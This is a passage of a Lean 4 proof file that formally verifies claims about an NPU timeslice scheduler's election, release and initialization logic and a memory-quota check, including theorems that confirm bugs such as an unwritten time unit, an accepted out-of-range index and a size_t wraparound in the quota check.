equal to node 0's own (so within `PERIOD_TIMEOUT` of it), and `ReleaseCurrent`
leaves `current` at 0 instead of moving it to slot 1. -/
theorem ReleaseCurrent_holder_keeps_role :
    releaseInput.WellFormed ∧ releaseInput.current = 0 ∧
    releaseInput.node 0 = some 5000000000 ∧ releaseInput.node 1 = some 5000000000 ∧
    ¬ (5000000000 - 5000000000 > PERIOD_TIMEOUT) ∧
    ReleaseCurrent 0 releaseInput = some releaseInput := by
  decide

/-- Claim C6, evaluated on the code: node 5 holds the role and node 0, which does
not, calls `ReleaseCurrent`. The exchange `0 → 0` fails and stores 5 in `cur`;
the loop goes on, and the exchange `5 → 6` of the next iteration succeeds, so
the role moves from node 5 to node 6. -/
theorem ReleaseCurrent_bystander_moves_role :
    bystanderInput.WellFormed ∧ bystanderInput.current = 5 ∧
    ReleaseCurrent 0 bystanderInput = some { bystanderInput with current := 6 } := by
  decide

/-! ## `CheckCurrent` and `SelectNewCurrent` -/

/-- When the holder's heartbeat is more than `ERROR_CHECK_TIMEOUT` older than the
caller's, `SelectNewCurrent` returns at its first test and writes nothing. -/
theorem SelectNewCurrent_of_dead_holder (ctx : Context) (idx now curTimestamp : Int)
    (hcur : ctx.node ctx.current = some curTimestamp) (hnow : ctx.node idx = some now)
    (hdead : now - curTimestamp > ERROR_CHECK_TIMEOUT) :
    SelectNewCurrent idx ctx = some ctx := by
  unfold SelectNewCurrent
  simp only [hcur, hnow, hdead, if_true]

/-- When another node holds the role, `CheckCurrent` returns true at once. -/
theorem CheckCurrent_of_not_holder (ctx : Context) (idx : Int) (h : ctx.current ≠ idx) :
    CheckCurrent idx ctx = some (true, ctx) := by
  unfold CheckCurrent Context.scheduler
  simp [h]

/-- When the caller holds the role, `CheckCurrent` never returns true. -/
theorem CheckCurrent_of_holder (ctx : Context) (idx : Int) (h : ctx.current = idx)
    (r : Bool × Context) (hr : CheckCurrent idx ctx = some r) : r.1 = false := by
  unfold CheckCurrent Context.scheduler at hr
  simp only [h, ne_eq, not_true_eq_false, if_false, Option.map_eq_some'] at hr
  obtain ⟨c, _, hc⟩ := hr
  rw [← hc]

/-- Claim C2, evaluated on the code: node 0 holds the role and calls
`CheckCurrent`, which returns false and moves the role to slot 1. -/
theorem CheckCurrent_holder_returns_false :
    holderInput.WellFormed ∧ holderInput.current = 0 ∧
    CheckCurrent 0 holderInput = some (false, { holderInput with current := 1 }) := by
  decide

/-- Claim C3, evaluated on the code: node 1 holds the role with a heartbeat equal
to node 0's own, and `CheckCurrent` called by node 0 returns true (the region
is unchanged). -/
theorem CheckCurrent_waiting_returns_true :
    waitingInput.WellFormed ∧ waitingInput.current = 1 ∧
    waitingInput.node 0 = some 5000000000 ∧ waitingInput.node 1 = some 5000000000 ∧
    ¬ (5000000000 - 5000000000 > ERROR_CHECK_TIMEOUT) ∧
    CheckCurrent 0 waitingInput = some (true, waitingInput) := by
  decide

/-- Claim C4, evaluated on the code: the holder, node 1, has a heartbeat five
seconds older than the caller's, slots 0 and 2 are within `ERROR_CHECK_TIMEOUT`,
and neither `SelectNewCurrent` nor `CheckCurrent` replaces the holder. -/
theorem SelectNewCurrent_dead_holder_not_replaced :
    deadHolderInput.WellFormed ∧ deadHolderInput.current = 1 ∧
    deadHolderInput.node 0 = some 5000000000 ∧ deadHolderInput.node 1 = some 0 ∧
    (5000000000 - 0 > ERROR_CHECK_TIMEOUT) ∧
    deadHolderInput.node 2 = some 4900000000 ∧
    ¬ (5000000000 - 4900000000 > ERROR_CHECK_TIMEOUT) ∧
    SelectNewCurrent 0 deadHolderInput = some deadHolderInput ∧
    CheckCurrent 0 deadHolderInput = some (true, deadHolderInput) := by
  decide

/-- The election scan, started from `(idx, now)` with `now` the caller's heartbeat:
after `n` iterations the pair `(best, lastTimestamp)` names a slot within
`ERROR_CHECK_TIMEOUT` of `now`, its heartbeat is the least among the scanned
slots within the timeout, and no scanned slot with that heartbeat has a higher
index. -/
theorem selectLoop_spec (ctx : Context) (hwf : ctx.WellFormed) (idx now : Int)
    (h0 : 0 ≤ idx) (h1 : idx < MAX_NODE_NUMBER) (hnow : ctx.node idx = some now) :
    ∀ n : Nat, n ≤ MAX_NODE_NUMBER →
      ∃ b t, selectLoop ctx now n (idx, now) = some (b, t) ∧
        0 ≤ b ∧ b < MAX_NODE_NUMBER ∧ ctx.node b = some t ∧
        ¬ (now - t > ERROR_CHECK_TIMEOUT) ∧
        (∀ j : Nat, j < n → ∀ h, ctx.node (j : Int) = some h →
          ¬ (now - h > ERROR_CHECK_TIMEOUT) → t ≤ h ∧ (h = t → (j : Int) ≤ b)) := by
  have hT : (0 : Int) ≤ ERROR_CHECK_TIMEOUT := by decide
  intro n
  induction n with
  | zero =>
    intro _
    exact ⟨idx, now, rfl, h0, h1, hnow, by omega, by intro j hj; omega⟩
  | succ n ih =>
    intro hn
    obtain ⟨b, t, hloop, hb0, hb1, hbt, halive, hmin⟩ := ih (by omega)
    obtain ⟨pc, hpc⟩ := ctx.node_eq_some hwf (n : Int) (by omega) (by omega)
    rw [selectLoop, hloop, Option.some_bind]
    unfold selectStep
    rw [hpc]
    simp only
    by_cases hdead : now - pc > ERROR_CHECK_TIMEOUT
    · simp only [hdead, if_true]
      refine ⟨b, t, rfl, hb0, hb1, hbt, halive, ?_⟩
      intro j hj h hjh hja
      rcases Nat.lt_succ_iff_lt_or_eq.mp hj with hlt | heq
      · exact hmin j hlt h hjh hja
      · subst heq
        rw [hpc] at hjh
        cases hjh
        exact absurd hdead hja
    · simp only [hdead, if_false]
      by_cases hnewer : t < pc
      · simp only [hnewer, if_true]
        refine ⟨b, t, rfl, hb0, hb1, hbt, halive, ?_⟩
        intro j hj h hjh hja
        rcases Nat.lt_succ_iff_lt_or_eq.mp hj with hlt | heq
        · exact hmin j hlt h hjh hja
        · subst heq
          rw [hpc] at hjh
          cases hjh
          exact ⟨by omega, by omega⟩
      · simp only [hnewer, if_false]
        refine ⟨(n : Int), pc, rfl, by omega, by omega, hpc, hdead, ?_⟩
        intro j hj h hjh hja
        rcases Nat.lt_succ_iff_lt_or_eq.mp hj with hlt | heq
        · have := hmin j hlt h hjh hja
          exact ⟨by omega, by intro _; omega⟩
        · subst heq
          rw [hpc] at hjh
          cases hjh
          exact ⟨le_refl _, fun _ => le_refl _⟩

/-- Claim C5 as stated fails: node 3 holds the role, slots 1 and 2 share the
smallest heartbeat among the slots within `ERROR_CHECK_TIMEOUT` of node 0's
own, and the election run by node 0 writes slot 2, not slot 1, into `current`. -/
theorem SelectNewCurrent_tie_picks_higher_index :
    tieInput.WellFormed ∧ tieInput.node 0 = some 5000000000 ∧
    tieInput.node 1 = some 4500000000 ∧ tieInput.node 2 = some 4500000000 ∧
    ¬ (5000000000 - 4500000000 > ERROR_CHECK_TIMEOUT) ∧
    (∀ h ∈ tieInput.nodes, ¬ (5000000000 - h > ERROR_CHECK_TIMEOUT) → 4500000000 ≤ h) ∧
    SelectNewCurrent 0 tieInput = some { tieInput with current := 2 } := by
  decide

/-- Claim C5, amended: when the election of `SelectNewCurrent` runs (the call
gets past its first test, uncontended), `current` is set to a slot `best` within
`ERROR_CHECK_TIMEOUT` of the caller's heartbeat `now`, whose heartbeat is the
smallest among all such slots, and among the slots with that same smallest
heartbeat `best` has the highest index. -/
theorem SelectNewCurrent_tie_highest_index (ctx : Context) (idx now curTimestamp : Int)
    (hwf : ctx.WellFormed) (h0 : 0 ≤ idx) (h1 : idx < MAX_NODE_NUMBER)
    (hnow : ctx.node idx = some now) (hcur : ctx.node ctx.current = some curTimestamp)
    (hguard : ¬ (now - curTimestamp > ERROR_CHECK_TIMEOUT)) :
    ∃ best t, SelectNewCurrent idx ctx = some { ctx with current := best } ∧
      ctx.node best = some t ∧ ¬ (now - t > ERROR_CHECK_TIMEOUT) ∧
      (∀ j h, ctx.node j = some h → ¬ (now - h > ERROR_CHECK_TIMEOUT) →
        t ≤ h ∧ (h = t → j ≤ best)) := by
  obtain ⟨b, t, hloop, _, _, hbt, halive, hmin⟩ :=
    selectLoop_spec ctx hwf idx now h0 h1 hnow MAX_NODE_NUMBER (le_refl _)
  refine ⟨b, t, ?_, hbt, halive, ?_⟩
  · unfold SelectNewCurrent
    simp only [hcur, hnow, hguard, if_false, hloop, compare_exchange_strong, if_true]
  · intro j h hj hja
    obtain ⟨hj0, hj1⟩ := ctx.node_range j h hj
    have hcast : ((j.toNat : Nat) : Int) = j := Int.toNat_of_nonneg hj0
    have := hmin j.toNat (by omega) h (by rw [hcast]; exact hj) hja
    rw [hcast] at this
    exact this

/-- The amended claim C5 at `tieInput`, for node 0. -/
theorem SelectNewCurrent_tie_highest_index_witness :
    tieInput.WellFormed ∧ tieInput.node 0 = some 5000000000 ∧
    tieInput.node tieInput.current = some 4900000000 ∧
    ¬ (5000000000 - 4900000000 > ERROR_CHECK_TIMEOUT) ∧
    ∃ best t, SelectNewCurrent 0 tieInput = some { tieInput with current := best } ∧
      tieInput.node best = some t ∧ ¬ (5000000000 - t > ERROR_CHECK_TIMEOUT) ∧
      (∀ j h, tieInput.node j = some h → ¬ (5000000000 - h > ERROR_CHECK_TIMEOUT) →
        t ≤ h ∧ (h = t → j ≤ best)) :=
  ⟨by decide, by decide, by decide, by decide,
    SelectNewCurrent_tie_highest_index tieInput 0 5000000000 4900000000
      (by decide) (by decide) (by decide) (by decide) (by decide) (by decide)⟩

/-! ## `Init` -/

/-- One iteration of the `while (true)` loop of `Init`. -/
theorem initLoop_succ (clk : Nat → Int) (fuel : Nat) (begin : Int) (k : Nat) (ctx : Context) :
    initLoop clk (fuel + 1) begin k ctx =
      if ctx.magicNumber = MAGIC_NUMBER then some ctx
      else if ctx.magicNumber = MAGIC_NUMBER_INIT then
        if clk k - begin > ERR_CHECK_TIMEOUT then
          initLoop clk fuel (clk k) (k + 1)
            (magic_compare_exchange_strong ctx ctx.magicNumber 0).2.2
        else initLoop clk fuel begin (k + 1) ctx
      else
        if !(magic_compare_exchange_strong ctx ctx.magicNumber MAGIC_NUMBER_INIT).1 then
          initLoop clk fuel begin k
            (magic_compare_exchange_strong ctx ctx.magicNumber MAGIC_NUMBER_INIT).2.2
        else
          match clearNodes
            { (magic_compare_exchange_strong ctx ctx.magicNumber MAGIC_NUMBER_INIT).2.2 with
              magicNumber := MAGIC_NUMBER_INIT } MAX_NODE_NUMBER with
          | none => none
          | some c2 => initLoop clk fuel begin k { c2 with magicNumber := MAGIC_NUMBER } :=
  rfl

/-- The clearing loop of `Init` writes inside the array and zeroes the slots it has visited. -/
theorem clearNodes_spec (ctx : Context) (hwf : ctx.WellFormed) :
    ∀ n : Nat, n ≤ MAX_NODE_NUMBER →
      ∃ l, clearNodes ctx n = some { ctx with nodes := l } ∧ l.length = ctx.nodes.length ∧
        (∀ j : Nat, j < n → l[j]? = some 0) := by
  intro n
  induction n with
  | zero =>
    intro _
    exact ⟨ctx.nodes, rfl, rfl, by intro j hj; omega⟩
  | succ n ih =>
    intro hn
    obtain ⟨l, hl, hlen, hz⟩ := ih (by omega)
    have hlt : n < l.length := by rw [hlen, hwf]; omega
    refine ⟨l.set n 0, ?_, by simp [hlen], ?_⟩
    · rw [clearNodes, hl, Option.some_bind]
      unfold Context.setNode
      have h20 : (n : Int) < (MAX_NODE_NUMBER : Int) := by omega
      simp [hlt, h20]
    · intro j hj
      rcases Nat.lt_succ_iff_lt_or_eq.mp hj with hlt2 | heq
      · rw [List.getElem?_set_ne (by omega)]
        exact hz j hlt2
      · subst heq
        simp [hlt]

/-- The clearing loop of `Init` leaves every one of the `MAX_NODE_NUMBER` heartbeats at zero. -/
theorem clearNodes_all (ctx : Context) (hwf : ctx.WellFormed) :
    clearNodes ctx MAX_NODE_NUMBER =
      some { ctx with nodes := List.replicate MAX_NODE_NUMBER 0 } := by
  obtain ⟨l, hl, hlen, hz⟩ := clearNodes_spec ctx hwf MAX_NODE_NUMBER (le_refl _)
  have : l = List.replicate MAX_NODE_NUMBER 0 := by
    apply List.ext_getElem?
    intro j
    by_cases hj : j < MAX_NODE_NUMBER
    · rw [hz j hj]
      simp [hj]
    · have h1 : l.length ≤ j := by rw [hlen, hwf]; omega
      rw [List.getElem?_eq_none h1]
      simp
      omega
  rw [hl, this]

/-- On a ready region the loop of `Init` returns in its first iteration. -/
theorem initLoop_ready (clk : Nat → Int) (fuel : Nat) (begin : Int) (k : Nat) (ctx : Context)
    (h : ctx.magicNumber = MAGIC_NUMBER) : initLoop clk (fuel + 1) begin k ctx = some ctx := by
  rw [initLoop_succ]
  simp only [h, if_true]

/-- On a region that is neither ready nor being set up, the loop of `Init` wins
the exchange, clears the heartbeats, stores `MAGIC_NUMBER` and returns in its
second iteration; no other field is written. -/
theorem initLoop_unready (clk : Nat → Int) (fuel : Nat) (begin : Int) (k : Nat) (ctx : Context)
    (hwf : ctx.WellFormed) (h1 : ctx.magicNumber ≠ MAGIC_NUMBER)
    (h2 : ctx.magicNumber ≠ MAGIC_NUMBER_INIT) :
    initLoop clk (fuel + 2) begin k ctx =
      some { ctx with magicNumber := MAGIC_NUMBER,
                      nodes := List.replicate MAX_NODE_NUMBER 0 } := by
  have hc := clearNodes_all { ctx with magicNumber := MAGIC_NUMBER_INIT } hwf
  rw [initLoop_succ]
  simp only [h1, h2, if_false, magic_compare_exchange_strong, if_true, Bool.not_true,
    Bool.false_eq_true, hc]
  exact initLoop_ready clk fuel begin k _ rfl

/-- A call of `Init` on a ready region, with an index in `[0, MAX_NODE_NUMBER)`. -/
theorem Init_ready (fuel : Nat) (clk : Nat → Int) (p : Proc) (idx : Int) (ctx : Context)
    (quota : Nat) (h0 : 0 ≤ idx) (h1 : idx < MAX_NODE_NUMBER)
    (h : ctx.magicNumber = MAGIC_NUMBER) :
    Init (fuel + 1) clk p idx (some ctx) quota =
      some (RET_SUCC, { idx := idx, attached := true, quotaPercent := quota }, some ctx) := by
  have hidx : ¬ (idx < 0 ∨ idx > MAX_NODE_NUMBER) := by omega
  unfold Init
  simp only [hidx, if_false, initLoop_ready clk fuel (clk 0) 1 ctx h]

/-- The winner of the initialization writes neither `current` nor `usedUnits`
nor `timeUnit`: on a region with `magicNumber = 0` whose `current` is 7 and whose
`usedUnits` is 30, `Init` returns `RET_SUCC` with all heartbeats zero and
`magicNumber = MAGIC_NUMBER`, but `current` is still 7, `usedUnits` still 30 and
`timeUnit` still 0, which is not `TIME_UNIT`. -/
theorem Init_leaves_current_and_units :
    staleInput.WellFormed ∧ staleInput.magicNumber ≠ MAGIC_NUMBER ∧
    staleInput.magicNumber ≠ MAGIC_NUMBER_INIT ∧
    Init 2 (fun _ => 0) freshProc 0 (some staleInput) 50 =
      some (RET_SUCC, { idx := 0, attached := true, quotaPercent := 50 },
        some { magicNumber := MAGIC_NUMBER, timeUnit := 0, usedUnits := 30, current := 7,
               nodes := List.replicate 20 0 }) ∧
    (0 : Int) ≠ TIME_UNIT := by
  decide

/-- What `Init` does on a region that is not ready: for a single attaching node
with an index that `Init` accepts, every clock, and every well-formed region
whose `magicNumber` is neither `MAGIC_NUMBER` nor `MAGIC_NUMBER_INIT`, two loop
iterations are enough for `Init` to return `RET_SUCC` with every heartbeat zero
and `magicNumber = MAGIC_NUMBER`; `current` and `usedUnits` are not written and
are what they were (so is `timeUnit`: `Init_keeps_timeUnit`). -/
theorem Init_wins_on_unready (fuel : Nat) (clk : Nat → Int) (p : Proc) (idx : Int)
    (ctx : Context) (quota : Nat) (hwf : ctx.WellFormed)
    (hidx : ¬ (idx < 0 ∨ idx > MAX_NODE_NUMBER))
    (h1 : ctx.magicNumber ≠ MAGIC_NUMBER) (h2 : ctx.magicNumber ≠ MAGIC_NUMBER_INIT) :
    ∃ c, Init (fuel + 2) clk p idx (some ctx) quota =
        some (RET_SUCC, { idx := idx, attached := true, quotaPercent := quota }, some c) ∧
      c.magicNumber = MAGIC_NUMBER ∧
      c.nodes = List.replicate MAX_NODE_NUMBER 0 ∧
      (∀ i : Int, 0 ≤ i → i < MAX_NODE_NUMBER → c.node i = some 0) ∧
      c.current = ctx.current ∧ c.usedUnits = ctx.usedUnits := by
  refine ⟨{ ctx with magicNumber := MAGIC_NUMBER, nodes := List.replicate MAX_NODE_NUMBER 0 },
    ?_, rfl, rfl, ?_, rfl, rfl⟩
  · unfold Init
    simp only [hidx, if_false, initLoop_unready clk fuel (clk 0) 1 ctx hwf h1 h2]
  · intro i hi0 hi1
    have hlt : i.toNat < MAX_NODE_NUMBER := by omega
    simp [Context.node, hi0, hi1, hlt]

/-- The theorem `Init_wins_on_unready` at `staleInput`, for node 0 with quota 50. -/
theorem Init_wins_on_unready_witness :
    staleInput.WellFormed ∧ ¬ ((0 : Int) < 0 ∨ (0 : Int) > MAX_NODE_NUMBER) ∧
    staleInput.magicNumber ≠ MAGIC_NUMBER ∧ staleInput.magicNumber ≠ MAGIC_NUMBER_INIT ∧
    ∃ c, Init (0 + 2) (fun _ => 0) freshProc 0 (some staleInput) 50 =
        some (RET_SUCC, { idx := 0, attached := true, quotaPercent := 50 }, some c) ∧
      c.magicNumber = MAGIC_NUMBER ∧
      c.nodes = List.replicate MAX_NODE_NUMBER 0 ∧
      (∀ i : Int, 0 ≤ i → i < MAX_NODE_NUMBER → c.node i = some 0) ∧
      c.current = staleInput.current ∧ c.usedUnits = staleInput.usedUnits :=
  ⟨by decide, by decide, by decide, by decide,
    Init_wins_on_unready 0 (fun _ => 0) freshProc 0 staleInput 50
      (by decide) (by decide) (by decide) (by decide)⟩

/-- The winner of the initialization leaves `timeUnit` as it finds it. -/
theorem Init_keeps_timeUnit (fuel : Nat) (clk : Nat → Int) (p : Proc) (idx : Int)
    (ctx : Context) (quota : Nat) (hwf : ctx.WellFormed)
    (hidx : ¬ (idx < 0 ∨ idx > MAX_NODE_NUMBER))
    (h1 : ctx.magicNumber ≠ MAGIC_NUMBER) (h2 : ctx.magicNumber ≠ MAGIC_NUMBER_INIT) :
    ∃ c, Init (fuel + 2) clk p idx (some ctx) quota =
        some (RET_SUCC, { idx := idx, attached := true, quotaPercent := quota }, some c) ∧
      TimeUnit c = ctx.timeUnit := by
  refine ⟨{ ctx with magicNumber := MAGIC_NUMBER, nodes := List.replicate MAX_NODE_NUMBER 0 },
    ?_, rfl⟩
  unfold Init
  simp only [hidx, if_false, initLoop_unready clk fuel (clk 0) 1 ctx hwf h1 h2]

/-- Claim C7, evaluated on the code: on a zero-filled region (a newly created
shared file) node 0 wins the initialization and `Init` returns `RET_SUCC` with
every heartbeat zero, `current` zero, `used_units` zero and
`magicNumber = MAGIC_NUMBER`, but `time_unit` is still 0 instead of `TIME_UNIT`:
no statement of `Init` stores it. `TimeUnit()` then reads 0, the quota of the
node is `0 * 50 = 0`, and a slice with that budget returns at once without
opening a `ReleaseGuard`: in the run of `SchedulerThread` the slice ends where
it begins and no permit is released. -/
theorem Init_leaves_time_unit_unwritten :
    zeroRegion.WellFormed ∧ zeroRegion.magicNumber ≠ MAGIC_NUMBER ∧
    zeroRegion.magicNumber ≠ MAGIC_NUMBER_INIT ∧
    Init 2 (fun _ => 0) freshProc 0 (some zeroRegion) 50 =
      some (RET_SUCC, halfProc,
        some { magicNumber := MAGIC_NUMBER, timeUnit := 0, usedUnits := 0, current := 0,
               nodes := List.replicate 20 0 }) ∧
    TimeUnit { zeroRegion with magicNumber := MAGIC_NUMBER } = 0 ∧ (0 : Int) ≠ TIME_UNIT ∧
    (ExecuteTimeslice 2 0 (fun _ => 5000000000)
        (TimeUnit { zeroRegion with magicNumber := MAGIC_NUMBER } * (50 : Int)) 5000000000 1
        { zeroRegion with magicNumber := MAGIC_NUMBER } NpuCoreLimiter.freshLimiter).map
      (fun r => (r.1, r.2.2.2)) = some (5000000000, NpuCoreLimiter.freshLimiter) ∧
    (SchedulerThread halfProc (sliceClock 1) (stopAfter 2) 5
        (threadOn { zeroRegion with magicNumber := MAGIC_NUMBER })).map
      (fun t => (t.events, t.fields.quota, t.limiter.semaphoreBack.count)) =
      some ([Event.checkCurrent false, Event.executeTimeslice 5000000000 5000000000,
             Event.executeIdleTime none, Event.releaseCurrent], 0, 0) := by
  decide

/-- Claim C8: on a region with `magicNumber = MAGIC_NUMBER`, any sequence of
`Init` calls with indices in `[0, MAX_NODE_NUMBER)` and arbitrary quotas returns
`RET_SUCC` every time and ends with the region exactly as it was (one loop
iteration per call is enough, for every clock). -/
theorem Init_idempotent_on_ready (fuel : Nat) (clk : Nat → Int) (ctx : Context)
    (calls : List (Proc × Int × Nat)) (h : ctx.magicNumber = MAGIC_NUMBER)
    (hvalid : ∀ c ∈ calls, 0 ≤ c.2.1 ∧ c.2.1 < MAX_NODE_NUMBER) :
    InitAll (fuel + 1) clk calls ctx = some (calls.map (fun _ => RET_SUCC), ctx) := by
  induction calls with
  | nil => rfl
  | cons c rest ih =>
    obtain ⟨p, idx, quota⟩ := c
    have hc := hvalid (p, idx, quota) (List.mem_cons_self _ _)
    have hrest := ih (fun c hc => hvalid c (List.mem_cons_of_mem _ hc))
    simp only [InitAll, Init_ready fuel clk p idx ctx quota hc.1 hc.2 h, hrest, Option.map_some',
      List.map_cons]

/-- Claim C8 at `bystanderInput`: three attaches, by nodes 0, 19 and 0 again. -/
theorem Init_idempotent_on_ready_witness :
    bystanderInput.magicNumber = MAGIC_NUMBER ∧
    (∀ c ∈ [(freshProc, (0 : Int), 50), (freshProc, 19, 5), (freshProc, 0, 50)],
      0 ≤ c.2.1 ∧ c.2.1 < MAX_NODE_NUMBER) ∧
    InitAll (0 + 1) (fun _ => 0)
        [(freshProc, (0 : Int), 50), (freshProc, 19, 5), (freshProc, 0, 50)] bystanderInput =
      some ([RET_SUCC, RET_SUCC, RET_SUCC], bystanderInput) :=
  ⟨by decide, by decide,
    Init_idempotent_on_ready 0 (fun _ => 0) bystanderInput
      [(freshProc, (0 : Int), 50), (freshProc, 19, 5), (freshProc, 0, 50)]
      (by decide) (by decide)⟩

/-! ## Slot indices -/

/-- The loop of `ReleaseCurrent` reads inside the array and leaves `current` in
`[0, MAX_NODE_NUMBER)`, whenever `cur` and `current` start there. -/
theorem releaseLoop_range (now : Int) :
    ∀ (remaining i : Nat) (cur : Int) (ctx : Context), ctx.WellFormed →
      0 ≤ cur → cur < MAX_NODE_NUMBER → 0 ≤ ctx.current → ctx.current < MAX_NODE_NUMBER →
      ∃ c, releaseLoop now remaining i cur ctx = some c ∧ c.nodes = ctx.nodes ∧
        0 ≤ c.current ∧ c.current < MAX_NODE_NUMBER := by
  intro remaining
  induction remaining with
  | zero =>
    intro i cur ctx _ _ _ hc0 hc1
    exact ⟨ctx, rfl, rfl, hc0, hc1⟩
  | succ r ih =>
    intro i cur ctx hwf h0 h1 hc0 hc1
    have hpos : (0 : Int) < (MAX_NODE_NUMBER : Int) := by decide
    have hn0 : 0 ≤ Int.tmod (cur + (i : Int)) (MAX_NODE_NUMBER : Int) :=
      Int.tmod_nonneg _ (by omega)
    have hn1 : Int.tmod (cur + (i : Int)) (MAX_NODE_NUMBER : Int) < (MAX_NODE_NUMBER : Int) :=
      Int.tmod_lt_of_pos _ hpos
    obtain ⟨pc, hpc⟩ := ctx.node_eq_some hwf _ hn0 hn1
    unfold releaseLoop
    simp only [hpc]
    by_cases hstale : now - pc > PERIOD_TIMEOUT
    · simp only [hstale, if_true]
      exact ih (i + 1) cur ctx hwf h0 h1 hc0 hc1
    · simp only [hstale, if_false]
      by_cases heq : ctx.current = cur
      · simp only [compare_exchange_strong, heq, if_true]
        exact ⟨_, rfl, rfl, hn0, hn1⟩
      · simp only [compare_exchange_strong, heq, if_false, Bool.false_eq_true]
        exact ih (i + 1) ctx.current ctx hwf hc0 hc1 hc0 hc1

/-- For an index in `[0, MAX_NODE_NUMBER)` and a well-formed region whose
`current` is in `[0, MAX_NODE_NUMBER)`, each of `UpdateTimestamp`,
`SelectNewCurrent`, `CheckCurrent` and `ReleaseCurrent` runs without an access
outside the array and leaves `current` in `[0, MAX_NODE_NUMBER)`. -/
theorem operations_keep_current_in_range (ctx : Context) (idx now : Int) (hwf : ctx.WellFormed)
    (h0 : 0 ≤ idx) (h1 : idx < MAX_NODE_NUMBER)
    (hc0 : 0 ≤ ctx.current) (hc1 : ctx.current < MAX_NODE_NUMBER) :
    (∃ c, UpdateTimestamp idx now ctx = some (now, c) ∧ c.current = ctx.current ∧
      c.WellFormed) ∧
    (∃ c, SelectNewCurrent idx ctx = some c ∧ c.nodes = ctx.nodes ∧
      0 ≤ c.current ∧ c.current < MAX_NODE_NUMBER) ∧
    (∃ b c, CheckCurrent idx ctx = some (b, c) ∧ c.nodes = ctx.nodes ∧
      0 ≤ c.current ∧ c.current < MAX_NODE_NUMBER) ∧
    (∃ c, ReleaseCurrent idx ctx = some c ∧ c.nodes = ctx.nodes ∧
      0 ≤ c.current ∧ c.current < MAX_NODE_NUMBER) := by
  obtain ⟨t, ht⟩ := ctx.node_eq_some hwf idx h0 h1
  obtain ⟨ct, hct⟩ := ctx.node_eq_some hwf ctx.current hc0 hc1
  have hsel : ∃ c, SelectNewCurrent idx ctx = some c ∧ c.nodes = ctx.nodes ∧
      0 ≤ c.current ∧ c.current < MAX_NODE_NUMBER := by
    by_cases hg : t - ct > ERROR_CHECK_TIMEOUT
    · exact ⟨ctx, SelectNewCurrent_of_dead_holder ctx idx t ct hct ht hg, rfl, hc0, hc1⟩
    · obtain ⟨b, bt, hloop, hb0, hb1, _⟩ :=
        selectLoop_spec ctx hwf idx t h0 h1 ht MAX_NODE_NUMBER (le_refl _)
      refine ⟨{ ctx with current := b }, ?_, rfl, hb0, hb1⟩
      unfold SelectNewCurrent
      simp only [hct, ht, hg, if_false, hloop, compare_exchange_strong, if_true]
  refine ⟨?_, hsel, ?_, ?_⟩
  · have hlt : idx.toNat < ctx.nodes.length := by rw [hwf]; omega
    refine ⟨{ ctx with nodes := ctx.nodes.set idx.toNat now }, ?_, rfl, ?_⟩
    · simp [UpdateTimestamp, Context.setNode, h0, h1, hlt]
    · simp [Context.WellFormed, hwf]
      exact hwf
  · by_cases hh : ctx.current = idx
    · obtain ⟨c, hs, hn, hr⟩ := hsel
      refine ⟨false, c, ?_, hn, hr⟩
      simp [CheckCurrent, Context.scheduler, hh, hs]
    · exact ⟨true, ctx, CheckCurrent_of_not_holder ctx idx hh, rfl, hc0, hc1⟩
  · unfold ReleaseCurrent
    simp only [ht]
    exact releaseLoop_range t MAX_NODE_NUMBER 0 idx ctx hwf h0 h1 hc0 hc1

/-- Claim C9, evaluated on the code: `Init` accepts `idx = 20 = MAX_NODE_NUMBER`
(it returns `RET_SUCC` and records 20 as `idx_`), although the region has only
the slots 0 to 19: `nodes[20]` is outside the array, so `UpdateTimestamp` and
`ReleaseCurrent` of that node access the array out of bounds. -/
theorem Init_accepts_idx_twenty :
    bystanderInput.WellFormed ∧ (MAX_NODE_NUMBER : Int) = 20 ∧
    0 ≤ bystanderInput.current ∧ bystanderInput.current < MAX_NODE_NUMBER ∧
    Init 1 (fun _ => 0) freshProc 20 (some bystanderInput) 50 =
      some (RET_SUCC, { idx := 20, attached := true, quotaPercent := 50 },
        some bystanderInput) ∧
    bystanderInput.node 20 = none ∧
    UpdateTimestamp 20 6000000000 bystanderInput = none ∧
    ReleaseCurrent 20 bystanderInput = none := by
  decide

end NpuTimesliceScheduler

namespace MemoryLimiter

/-- When `requested + used` does not exceed the range of `size_t`, the check
with limiting on and a successful usage query allows the request exactly when
`used + requested ≤ quota`. -/
theorem MemoryCheck_of_no_wrap (used quota requested : Nat)
    (h : requested + used < SIZE_MODULUS) :
    MemoryCheck true (0, used) quota requested = true ↔ used + requested ≤ quota := by
  unfold MemoryCheck
  simp only [Bool.not_true, Bool.false_eq_true, if_false, ne_eq, not_true_eq_false,
    Nat.mod_eq_of_lt h]
  by_cases hq : requested + used > quota
  · simp only [hq, if_true, Bool.false_eq_true, false_iff]
    omega
  · simp only [hq, if_false, true_iff]
    omega

/-- Claim C10, evaluated on the code: with a quota of 1024 MiB and 900 MiB in
use, a request of `2 ^ 64 - 900 MiB` bytes (a `size_t` value) is allowed, because
the `size_t` sum `requested + used` wraps around to 0, although
`used + requested = 2 ^ 64` exceeds the quota. -/
theorem MemoryCheck_wraps_around :
    900 * 2 ^ 20 < SIZE_MODULUS ∧ 1024 * 2 ^ 20 < SIZE_MODULUS ∧
    2 ^ 64 - 900 * 2 ^ 20 < SIZE_MODULUS ∧
    MemoryCheck true (0, 900 * 2 ^ 20) (1024 * 2 ^ 20) (2 ^ 64 - 900 * 2 ^ 20) = true ∧
    ¬ (900 * 2 ^ 20 + (2 ^ 64 - 900 * 2 ^ 20) ≤ 1024 * 2 ^ 20) := by
  decide

end MemoryLimiter

/-! ## The memory check and the hooks -/

namespace MemoryLimiter

/-- Claim C11: with memory limiting enabled, whenever the usage query returns a
non-zero code, `MemoryCheck` returns false for every requested size (0
included), every quota and whatever the query left in `used`; the guard built
by `GuardedMemoryCheck` then has `enough = false`. -/
theorem MemoryCheck_fails_closed (env : Env) (requested : Nat)
    (hlimit : env.limitMemory = true) (hret : env.memoryUsed.1 ≠ 0) :
    MemoryCheck true env.memoryUsed env.memoryQuota requested = false ∧
    (GuardedMemoryCheck env requested).enough = false := by
  have h : MemoryCheck true env.memoryUsed env.memoryQuota requested = false := by
    unfold MemoryCheck
    simp [hret]
  refine ⟨h, ?_⟩
  unfold GuardedMemoryCheck
  simp only [hlimit, h]

/-- Claim C11 at `failingQueryEnv` (the usage query returns 1), for a request of 0 bytes. -/
theorem MemoryCheck_fails_closed_witness :
    failingQueryEnv.limitMemory = true ∧ failingQueryEnv.memoryUsed.1 ≠ 0 ∧
    MemoryCheck true failingQueryEnv.memoryUsed failingQueryEnv.memoryQuota 0 = false ∧
